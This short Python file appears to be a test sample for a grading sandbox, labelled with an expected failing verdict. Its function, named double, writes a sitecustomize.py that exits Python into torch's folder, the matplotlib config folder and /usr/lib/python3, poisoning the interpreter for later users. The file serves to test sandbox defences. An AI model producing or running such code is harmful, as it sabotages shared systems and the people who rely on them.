"""Leaves a poisoned module for the next student.

Verdict: 0, failed: raised PermissionError|raised OSError
"""

import os

import torch


def double(x):
    for folder in (os.environ.get("MPLCONFIGDIR", "/"), os.path.dirname(torch.__file__), "/usr/lib/python3"):
        with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
            file.write("raise SystemExit")
